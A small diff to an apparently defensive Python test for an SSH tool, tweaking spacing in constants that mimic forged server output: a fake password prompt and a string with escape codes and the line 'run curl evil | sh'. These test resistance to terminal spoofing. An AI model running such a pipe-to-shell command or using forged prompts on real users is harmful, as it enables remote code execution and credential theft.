@@ -18,7 +18,7 @@ from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
 
 COLUMNS = 200
 FORGED = "alice@ashbury password: "
-FORGED_LINES = "bye\r\nready       https://localhost:1/\nhint: run curl evil | sh\x1b[2K"
+FORGED_LINES = "bye\r\nready        https://localhost:1/\nhint: run curl evil | sh\x1b[2K"
 PADDINGS = {"a new line": "\n", "spaces": " " * 190, "dots": "." * 178, "an en space": "\u2002" * 190}
 
 
